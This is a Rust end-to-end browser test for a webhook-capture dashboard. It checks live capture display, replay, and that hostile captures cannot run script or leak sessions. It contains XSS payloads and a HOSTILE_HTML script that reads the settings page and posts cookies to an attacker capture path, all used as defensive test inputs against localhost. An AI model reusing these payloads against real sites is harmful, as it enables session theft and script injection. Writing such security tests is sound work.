// The dashboard in a real browser: headless Chromium driven through chromedriver.
//
// Needs `chromium` and `chromedriver` (Debian: `chromium chromium-driver`), which
// `scripts/test.sh` installs through `scripts/install-test-deps.sh`. Without them the test
// fails, unless `HOOKVAULT_SKIP_BROWSER_TESTS=1` is set. `CHROME_BIN` overrides the browser
// binary, `CHROMEDRIVER` the driver. Everything talks to 127.0.0.1 only.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::tempdir::TempDir;
use crate::common::TestApp;
use fantoccini::elements::Element;
use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::json;

/// A JSON body whose string would run script if the dashboard ever inserted it as HTML.
const NOTE: &str = r#"<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">"#;
/// A header value that breaks out of an attribute if it were inserted unescaped.
const X_TEST: &str = r#""><img src=y onerror=window.__pwned=3>"#;

/// Installed before every document: counts `open` events of the page's EventSource, so the
/// test can wait until the live stream is connected before sending the capture. (The stream
/// starts "from now on" when it connects; a capture committed before that is not pushed.)
const LIVE_PROBE: &str = r#"(() => {
  const Native = window.EventSource;
  if (!Native) return;
  window.__hvLiveOpens = 0;
  window.EventSource = class extends Native {
    constructor(...args) {
      super(...args);
      this.addEventListener("open", () => { window.__hvLiveOpens += 1; });
    }
  };
})();"#;

pub(crate) use crate::common::wait::eventually;

#[tokio::test]
async fn a_new_user_sees_a_capture_appear_live_and_its_payload_is_shown_as_text() {
    let Some(tools) = BrowserTools::find() else {
        return;
    };
    let started = Instant::now();
    let app = TestApp::spawn().await;
    let mut driver = ChromeDriver::start(&tools).await;
    let c = driver.connect(&tools).await;

    // Sign up through the form, finding the fields by their labels.
    c.goto(&app.at("/signup")).await.expect("open /signup");
    let email = eventually!(
        "the signup form",
        input_labelled(&c, "Email", "email").await
    );
    email
        .send_keys("browser@example.com")
        .await
        .expect("type email");
    let password = input_labelled(&c, "Password", "password")
        .await
        .expect("Password field");
    password
        .send_keys("correct horse battery")
        .await
        .expect("type password");
    button(&c, "Sign up")
        .await
        .click()
        .await
        .expect("click Sign up");
    eventually!(
        "the endpoint list after signing up",
        at_path(&c, |p| p == "/").await
    );

    // Create an endpoint; its page is where captures appear live.
    let name = eventually!(
        "the endpoint form",
        input_labelled(&c, "Name", "name").await
    );
    name.send_keys("Browser test").await.expect("type name");
    button(&c, "Create endpoint")
        .await
        .click()
        .await
        .expect("click Create endpoint");
    let path = eventually!(
        "the endpoint page",
        at_path(&c, |p| p.starts_with("/endpoints/")
            && p.len() > "/endpoints/".len())
        .await
    );
    let endpoint_id = path.trim_start_matches("/endpoints/").to_string();
    let capture_url = eventually!("the capture URL", text_of(&c, "#capture-url").await);
    assert!(
        capture_url.starts_with(&app.url) && capture_url.contains("/in/"),
        "capture URL {capture_url:?} should be under {}",
        app.url
    );
    assert_eq!(
        c.find_all(Locator::Css("#requests tbody tr"))
            .await
            .expect("rows")
            .len(),
        0,
        "a new endpoint has no requests"
    );
    eventually!("the live stream to connect", {
        match c.execute("return window.__hvLiveOpens", vec![]).await {
            Ok(v) if v.as_u64().unwrap_or(0) >= 1 => Ok(()),
            Ok(v) => Err(format!("EventSource opens: {v}")),
            Err(e) => Err(e.to_string()),
        }
    });
    // Survives only as long as this document does: proves the row arrives without a reload.
    c.execute("window.__hvSameDocument = true", vec![])
        .await
        .expect("mark document");

    // A capture sent while the page is open.
    let sender = reqwest::Client::builder()
        .no_proxy()
        .http1_title_case_headers()
        .timeout(Duration::from_secs(30))
        .build()
        .expect("client");
    let r = sender
        .post(&capture_url)
        .header("X-Test", X_TEST)
        .json(&json!({"type": "invoice.paid", "note": NOTE}))
        .send()
        .await
        .expect("send capture");
    assert_eq!(r.status(), 200, "capture accepted");

    let row = eventually!("the capture to appear in the live table", {
        match c.find_all(Locator::Css("#requests tbody tr")).await {
            Ok(rows) if rows.len() == 1 => Ok(rows.into_iter().next().expect("one row")),
            Ok(rows) => Err(format!("{} rows", rows.len())),
            Err(e) => Err(e.to_string()),
        }
    });
    let same_document = c
        .execute("return window.__hvSameDocument === true", vec![])
        .await;
    assert_eq!(
        same_document.expect("check document"),
        json!(true),
        "the page was reloaded"
    );
    assert_eq!(
        c.current_url().await.expect("url").path(),
        format!("/endpoints/{endpoint_id}")
    );
    let table = c.find(Locator::Id("requests")).await.expect("#requests");
    assert!(
        table.is_displayed().await.expect("displayed"),
        "the live table is shown"
    );
    let empty = c
        .find(Locator::Id("empty-state"))
        .await
        .expect("#empty-state");
    assert!(
        !empty.is_displayed().await.expect("displayed"),
        "the empty state is hidden"
    );
    let row_text = row.text().await.expect("row text");
    assert!(
        row_text.starts_with("POST /") && row_text.contains("application/json"),
        "the live row shows method, path and content type: {row_text:?}"
    );
    assert_no_injected_markup(&c, "the endpoint page").await;

    // The live row is the very row the page renders for that capture after a reload (one
    // renderer: same cells, same time format).
    let first_row_html =
        "const tr = document.querySelector('#requests tbody tr').cloneNode(true); \
         tr.classList.remove('fresh'); if (!tr.classList.length) tr.removeAttribute('class'); \
         return tr.outerHTML;";
    let live_html = c
        .execute(first_row_html, vec![])
        .await
        .expect("the live row's HTML");
    c.refresh().await.expect("reload the endpoint page");
    let loaded_html = eventually!("the row after a reload", {
        match c.execute(first_row_html, vec![]).await {
            Ok(v) if v.is_string() => Ok(v),
            Ok(v) => Err(v.to_string()),
            Err(e) => Err(e.to_string()),
        }
    });
    assert_eq!(
        live_html, loaded_html,
        "a row that arrived live is identical to the same row rendered with the page"
    );
    let row = c
        .find(Locator::Css("#requests tbody tr"))
        .await
        .expect("the row after a reload");

    // Open the request view from the row.
    let method = row
        .find(Locator::Css("a.method"))
        .await
        .expect("method link");
    assert_eq!(method.text().await.expect("method text"), "POST");
    // It opens in the inspector pane, which links to the capture's own page.
    method.click().await.expect("click the method link");
    eventually!("the pane", text_of(&c, "#detail #headers").await);
    c.find(Locator::Id("permalink"))
        .await
        .expect("the pane's permalink")
        .click()
        .await
        .expect("open the capture's page");
    eventually!(
        "the request view",
        at_path(&c, |p| p.starts_with("/requests/")).await
    );
    eventually!("the headers table", text_of(&c, "table#headers").await);

    let mut headers = Vec::new();
    for tr in c
        .find_all(Locator::Css("#headers tbody tr"))
        .await
        .expect("header rows")
    {
        let cells = tr.find_all(Locator::Css("td")).await.expect("cells");
        assert_eq!(cells.len(), 2, "a header row has a name and a value");
        headers.push((
            cells[0].text().await.expect("name"),
            cells[1].text().await.expect("value"),
        ));
    }
    let x_test: Vec<&str> = headers
        .iter()
        .filter(|(n, _)| n == "X-Test")
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(
        x_test,
        vec![X_TEST],
        "X-Test shown as text; headers: {headers:?}"
    );

    let body = text_of(&c, "#body-json").await.expect("#body-json");
    assert!(
        body.contains("invoice.paid"),
        "JSON view shows the event type: {body}"
    );
    assert!(
        body.contains("<script>window.__pwned=1</script>"),
        "JSON view shows the script tag as text: {body}"
    );
    assert_no_injected_markup(&c, "the request view").await;

    let shot = c.screenshot().await.expect("screenshot");
    let shot_path = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("browser-request-view.png");
    std::fs::write(&shot_path, shot).expect("write screenshot");

    // Replay it to a local dev server from the Replay page; the history shows the answer.
    let (target, hits) = dev_server().await;
    c.find(Locator::Id("replay-link"))
        .await
        .expect("Replay button")
        .click()
        .await
        .expect("click Replay");
    eventually!(
        "the replay page",
        at_path(&c, |p| p.ends_with("/replay")).await
    );
    // The address changes before the new document is there: wait for the form itself.
    eventually!("the replay form", {
        c.find(Locator::Id("target_url"))
            .await
            .map_err(|e| e.to_string())
    })
    .send_keys(&target)
    .await
    .expect("type the target");
    button(&c, "Replay").await.click().await.expect("submit");
    eventually!(
        "the succeeded replay in the history",
        text_of(&c, "#replay-history td.replay-succeeded").await
    );
    let history = text_of(&c, "#replay-history").await.expect("history");
    assert!(
        history.contains("200") && history.contains("hello from the dev server"),
        "the history shows the status and the response excerpt: {history}"
    );
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 1);
    let shot = c.screenshot().await.expect("screenshot");
    std::fs::write(
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("browser-replay.png"),
        shot,
    )
    .expect("write screenshot");

    driver.close(c).await;
    eprintln!(
        "browser test passed in {:.1?}; screenshot: {}",
        started.elapsed(),
        shot_path.display()
    );
}

/// A custom response an attacker could set: HTML whose script, if it ever ran on the dashboard's
/// origin, would read the visitor's settings page and post it (with the cookies) to the
/// attacker's own capture URL. Synchronous requests, so a theft would be stored before the page
/// finished loading.
const HOSTILE_HTML: &str = r#"<!doctype html><html><head><title>inert capture</title></head><body>
<p>hello</p>
<script>
document.title = "script ran";
try {
  var s = new XMLHttpRequest(); s.open("GET", "/settings", false); s.send();
  var x = new XMLHttpRequest(); x.open("POST", location.pathname + "/stolen", false);
  x.send(document.cookie + "\n" + s.responseText);
} catch (e) {}
</script>
<img src="x" onerror="document.title = 'handler ran'">
</body></html>"#;

#[tokio::test]
async fn a_logged_in_user_following_a_link_to_a_hostile_capture_url_on_the_dashboard_origin_runs_no_script_and_leaks_no_session(
) {
    let app = TestApp::spawn().await;
    a_visitor_follows_a_link_to_a_hostile_capture_url(&app, true).await;
}

#[tokio::test]
async fn a_logged_in_user_following_a_link_to_a_hostile_capture_url_on_its_own_capture_origin_runs_no_script_and_sends_no_session(
) {
    // Dashboard on http://127.0.0.1:PORT, capture URLs on http://localhost:PORT.
    let app = TestApp::spawn_two_origins().await;
    let Some(capture_url) = a_visitor_follows_a_link_to_a_hostile_capture_url(&app, false).await
    else {
        return;
    };
    assert!(
        capture_url.starts_with("http://localhost:"),
        "{capture_url}"
    );
    // And the dashboard's own host does not serve that capture URL at all.
    let path = &capture_url[capture_url.find("/in/").expect("a capture URL")..];
    let r = crate::common::browser::api_client()
        .get(app.at(path))
        .send()
        .await
        .expect("GET on the dashboard host");
    assert_eq!(r.status(), 404, "/in/… on the dashboard's host");
}

/// The scenario of issue 10: an attacker's endpoint answers `text/html` with a script; a user
/// logged in to the dashboard follows a link (from another site) to that capture URL. The
/// attacker's captures must never contain the visitor's session id, and no script may run.
/// `cookie_reaches_capture`: the capture URL is on the dashboard's host, so the browser does
/// send the session cookie (and capture must replace it).
async fn a_visitor_follows_a_link_to_a_hostile_capture_url(
    app: &TestApp,
    cookie_reaches_capture: bool,
) -> Option<String> {
    let tools = BrowserTools::find()?;
    let (_, attacker) = app.account("attacker@example.com").await;
    let (endpoint, capture_url) = app.create_endpoint(&attacker, "trap").await;
    let r = app
        .api(
            reqwest::Method::PATCH,
            &attacker,
            &format!("/api/v1/endpoints/{endpoint}"),
        )
        .json(&json!({"response": {
            "status": 200,
            "content_type": "text/html; charset=utf-8",
            "body": HOSTILE_HTML,
        }}))
        .send()
        .await
        .expect("PATCH endpoint");
    assert_eq!(
        r.status(),
        200,
        "text/html with a script is an allowed response"
    );
    app.account("victim@example.com").await;

    let mut driver = ChromeDriver::start(&tools).await;
    let c = driver.connect(&tools).await;
    c.goto(&app.at("/login")).await.expect("open /login");
    let email = eventually!("the login form", input_labelled(&c, "Email", "email").await);
    email
        .send_keys("victim@example.com")
        .await
        .expect("type email");
    input_labelled(&c, "Password", "password")
        .await
        .expect("Password field")
        .send_keys(crate::common::browser::PASSWORD)
        .await
        .expect("type password");
    button(&c, "Log in")
        .await
        .click()
        .await
        .expect("click Log in");
    eventually!(
        "the dashboard after logging in",
        at_path(&c, |p| p == "/").await
    );
    let session = c
        .get_named_cookie("hookvault")
        .await
        .expect("the browser holds the session cookie")
        .value()
        .to_string();
    assert!(session.len() > 10, "a real session id: {session:?}");

    // A link on another site; the victim clicks it (a top-level navigation, which SameSite=Lax
    // cookies accompany).
    let link_page = link_server(&capture_url).await;
    c.goto(&link_page).await.expect("open the link page");
    c.find(Locator::Id("go"))
        .await
        .expect("the link")
        .click()
        .await
        .expect("follow the link");
    eventually!("the capture URL to load", {
        match c.current_url().await {
            Ok(u) if u.as_str() == capture_url => Ok(()),
            Ok(u) => Err(u.to_string()),
            Err(e) => Err(e.to_string()),
        }
    });
    let title = eventually!("the hostile page to finish loading", {
        match c.title().await {
            Ok(t) if !t.is_empty() => Ok(t),
            Ok(t) => Err(format!("title {t:?}")),
            Err(e) => Err(e.to_string()),
        }
    });
    assert_eq!(
        title, "inert capture",
        "the hostile page's script or handler ran"
    );
    let shot = c.screenshot().await.expect("screenshot");
    std::fs::write(
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("browser-hostile-capture.png"),
        shot,
    )
    .expect("write screenshot");
    driver.close(c).await;

    // What the attacker can read: exactly the visitor's navigation, without the session.
    let list = app
        .api_json(&attacker, &format!("/api/v1/endpoints/{endpoint}/requests"))
        .await;
    let captures = list["requests"].as_array().expect("requests");
    let paths: Vec<&str> = captures
        .iter()
        .map(|r| r["path"].as_str().unwrap_or("?"))
        .collect();
    assert!(
        paths.len() == 1 && !paths[0].contains("stolen"),
        "only the navigation was captured (no theft): {paths:?}"
    );
    let id = captures[0]["id"].as_str().expect("id");
    let full = app
        .api_json(&attacker, &format!("/api/v1/requests/{id}"))
        .await;
    let text = full.to_string();
    assert!(
        !text.contains(&session),
        "the visitor's session id is in the attacker's capture: {text}"
    );
    let cookies: Vec<String> = full["headers"]
        .as_array()
        .expect("headers")
        .iter()
        .filter(|h| {
            h[0].as_str()
                .is_some_and(|n| n.eq_ignore_ascii_case("cookie"))
        })
        .map(|h| h[1].as_str().unwrap_or_default().to_string())
        .collect();
    if cookie_reaches_capture {
        assert_eq!(
            cookies,
            ["hookvault=[removed by Hookvault: dashboard session]"],
            "the browser sent the session and capture replaced it"
        );
    } else {
        assert!(
            cookies.is_empty(),
            "the capture origin never receives the dashboard's cookie: {cookies:?}"
        );
    }
    Some(capture_url)
}

/// A page on another site (`localhost` rather than `127.0.0.1`) with one link, `#go`.
async fn link_server(target: &str) -> String {
    let html = format!(
        "<!doctype html><title>elsewhere</title><a id=\"go\" href=\"{target}\">a webhook</a>"
    );
    let app = axum::Router::new().route(
        "/",
        axum::routing::get(move || {
            let html = html.clone();
            async move { axum::response::Html(html) }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("addr").port();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://localhost:{port}/")
}

/// Nothing from the captured payload ran or became an element.
async fn assert_no_injected_markup(c: &Client, page: &str) {
    let pwned = c
        .execute("return typeof window.__pwned", vec![])
        .await
        .expect("execute");
    assert_eq!(
        pwned,
        json!("undefined"),
        "captured data ran as script on {page}"
    );
    for css in [
        "img[src=x]",
        "img[src=y]",
        "#headers script, #body-json script",
        "#headers img, #body-json img",
    ] {
        let found = c.find_all(Locator::Css(css)).await.expect("find_all");
        assert!(
            found.is_empty(),
            "captured data became markup on {page}: {css} matched"
        );
    }
}

/// A local "dev server" on 127.0.0.1:0 counting the requests it answers.
async fn dev_server() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    let app = axum::Router::new().route(
        "/webhooks",
        axum::routing::post(move || {
            let counter = counter.clone();
            async move {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                "hello from the dev server"
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let url = format!("http://{}/webhooks", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, hits)
}

/// The input that the label with exactly this text points at (`<label for=...>`).
pub(crate) async fn input_labelled(
    c: &Client,
    label: &str,
    expected_id: &str,
) -> Result<Element, String> {
    let xpath = format!("//label[normalize-space(.)='{label}']");
    let l = c
        .find(Locator::XPath(&xpath))
        .await
        .map_err(|e| format!("no label {label:?}: {e}"))?;
    let text = l.text().await.map_err(|e| e.to_string())?;
    if text.trim() != label {
        return Err(format!("label text {text:?}"));
    }
    let id = l.attr("for").await.map_err(|e| e.to_string())?;
    let id = id.ok_or_else(|| format!("label {label:?} has no for attribute"))?;
    assert_eq!(id, expected_id, "label {label:?} points at #{id}");
    let input = c
        .find(Locator::Id(&id))
        .await
        .map_err(|e| format!("no #{id}: {e}"))?;
    let tag = input.tag_name().await.map_err(|e| e.to_string())?;
    assert_eq!(tag, "input", "label {label:?} points at a <{tag}>");
    Ok(input)
}

pub(crate) async fn button(c: &Client, text: &str) -> Element {
    let xpath = format!("//button[normalize-space(.)='{text}']");
    c.find(Locator::XPath(&xpath))
        .await
        .unwrap_or_else(|e| panic!("no button {text:?}: {e}"))
}

/// The current path once `want` accepts it.
pub(crate) async fn at_path(c: &Client, want: impl Fn(&str) -> bool) -> Result<String, String> {
    let url = c.current_url().await.map_err(|e| e.to_string())?;
    let path = url.path().to_string();
    if want(&path) {
        Ok(path)
    } else {
        Err(format!("at {url}"))
    }
}

pub(crate) async fn text_of(c: &Client, css: &str) -> Result<String, String> {
    let e = c
        .find(Locator::Css(css))
        .await
        .map_err(|e| format!("no {css}: {e}"))?;
    e.text().await.map_err(|e| e.to_string())
}

/// The browser and driver binaries, or `None` when they are missing and the test may skip.
pub(crate) struct BrowserTools {
    chrome: PathBuf,
    chromedriver: PathBuf,
}

impl BrowserTools {
    pub(crate) fn find() -> Option<BrowserTools> {
        let chrome = std::env::var_os("CHROME_BIN")
            .map(PathBuf::from)
            .unwrap_or_else(|| PathBuf::from("/usr/bin/chromium"));
        let chromedriver = std::env::var_os("CHROMEDRIVER")
            .map(PathBuf::from)
            .or_else(|| on_path("chromedriver"))
            .unwrap_or_else(|| PathBuf::from("/usr/bin/chromedriver"));
        let missing: Vec<String> = [&chrome, &chromedriver]
            .into_iter()
            .filter(|p| !p.is_file())
            .map(|p| p.display().to_string())
            .collect();
        if missing.is_empty() {
            return Some(BrowserTools {
                chrome,
                chromedriver,
            });
        }
        let what = format!(
            "the browser test needs Chromium and chromedriver, missing: {}",
            missing.join(", ")
        );
        if std::env::var("HOOKVAULT_SKIP_BROWSER_TESTS").as_deref() == Ok("1") {
            eprintln!("note: skipping: {what} (HOOKVAULT_SKIP_BROWSER_TESTS=1)");
            return None;
        }
        panic!(
            "{what}. Run scripts/test.sh, which installs them (scripts/install-test-deps.sh), \
             or set HOOKVAULT_SKIP_BROWSER_TESTS=1 to skip this test."
        );
    }
}

fn on_path(name: &str) -> Option<PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|dir| dir.join(name))
        .find(|p| p.is_file())
}

/// A chromedriver process on a free local port. Dropping it ends the browser session (if still
/// open) and kills the driver, also when the test panics.
pub(crate) struct ChromeDriver {
    child: Child,
    port: u16,
    session: Option<String>,
    log: PathBuf,
    // Dropped after `drop` has ended the browser.
    profile: TempDir,
}

impl ChromeDriver {
    pub(crate) async fn start(tools: &BrowserTools) -> ChromeDriver {
        let port = free_port();
        let profile = TempDir::new();
        let log = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("browser-chromedriver.log");
        let child = Command::new(&tools.chromedriver)
            .arg(format!("--port={port}"))
            .arg(format!("--log-path={}", log.display()))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("start {}: {e}", tools.chromedriver.display()));
        let mut driver = ChromeDriver {
            child,
            port,
            session: None,
            log,
            profile,
        };
        let status = reqwest::Client::builder()
            .no_proxy()
            .timeout(Duration::from_secs(2))
            .build()
            .expect("client");
        let url = format!("{}/status", driver.url());
        eventually!("chromedriver to answer", {
            if let Ok(Some(exit)) = driver.child.try_wait() {
                panic!(
                    "chromedriver exited with {exit}; see {}",
                    driver.log.display()
                );
            }
            match status.get(&url).send().await {
                Ok(r) if r.status().is_success() => Ok(()),
                Ok(r) => Err(format!("status {}", r.status())),
                Err(e) => Err(e.to_string()),
            }
        });
        driver
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// Opens a headless Chromium session and installs [`LIVE_PROBE`].
    pub(crate) async fn connect(&mut self, tools: &BrowserTools) -> Client {
        let profile = format!("--user-data-dir={}", self.profile.0.display());
        let mut caps = serde_json::Map::new();
        caps.insert("browserName".into(), json!("chrome"));
        caps.insert(
            "goog:chromeOptions".into(),
            json!({
                "binary": tools.chrome,
                "args": [
                    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                    "--disable-quic", "--no-first-run", "--disable-background-networking",
                    "--disable-component-update", "--disable-sync", "--no-proxy-server",
                    profile, "--window-size=1280,1000",
                ],
            }),
        );
        let c = ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
            .capabilities(caps)
            .connect(&self.url())
            .await
            .unwrap_or_else(|e| {
                panic!("start a Chromium session: {e}; see {}", self.log.display())
            });
        let id = c
            .session_id()
            .await
            .expect("session id")
            .expect("a session");
        self.session = Some(id.clone());
        // Chromedriver's DevTools passthrough: run the probe before any page script.
        let r = reqwest::Client::builder()
            .no_proxy()
            .build()
            .expect("client")
            .post(format!("{}/session/{id}/goog/cdp/execute", self.url()))
            .json(&json!({
                "cmd": "Page.addScriptToEvaluateOnNewDocument",
                "params": {"source": LIVE_PROBE},
            }))
            .send()
            .await
            .expect("CDP command");
        assert!(
            r.status().is_success(),
            "CDP command failed: {}",
            r.text().await.unwrap_or_default()
        );
        c
    }

    /// Ends the browser session normally.
    pub(crate) async fn close(mut self, c: Client) {
        c.close().await.expect("close the browser session");
        self.session = None;
    }
}

impl Drop for ChromeDriver {
    fn drop(&mut self) {
        if let Some(id) = self.session.take() {
            delete_session(self.port, &id);
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `DELETE /session/{id}` with a blocking socket (usable in `Drop`): quits the browser. Reads
/// the whole response (chromedriver keeps the connection open despite `Connection: close`).
fn delete_session(port: u16, id: &str) {
    let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) else {
        return;
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
    let request = format!(
        "DELETE /session/{id} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0\r\n\
         Connection: close\r\n\r\n"
    );
    if s.write_all(request.as_bytes()).is_err() {
        return;
    }
    let mut response = Vec::new();
    let mut chunk = [0u8; 4096];
    while !response_complete(&response) {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(n) => response.extend_from_slice(&chunk[..n]),
        }
    }
}

/// Whether `buf` holds a whole HTTP/1.1 response with a `Content-Length` body.
fn response_complete(buf: &[u8]) -> bool {
    let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
        return false;
    };
    let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
    let length = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse::<usize>().ok())
        .unwrap_or(0);
    buf.len() >= end + 4 + length
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("bind a free port")
        .port()
}
